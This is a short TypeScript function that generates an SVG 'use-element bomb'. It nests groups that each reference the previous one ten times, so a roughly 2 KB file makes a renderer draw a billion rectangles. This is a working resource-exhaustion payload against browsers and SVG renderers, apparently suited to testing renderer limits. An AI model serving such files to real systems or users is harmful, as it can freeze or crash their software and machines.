/** 2 KB that draws 10^levels rectangles: each group uses the one before it ten times. */
export function useBomb(levels = 9): string {
  const groups = ['<g id="l0"><rect width="1" height="1"/></g>'];
  for (let i = 1; i <= levels; i++) groups.push(`<g id="l${i}">${Array.from({ length: 10 }, () => `<use href="#l${i - 1}"/>`).join('')}</g>`);
  return `<svg xmlns="http://www.w3.org/2000/svg"><defs>${groups.join('')}</defs><use href="#l${levels}"/></svg>`;
}
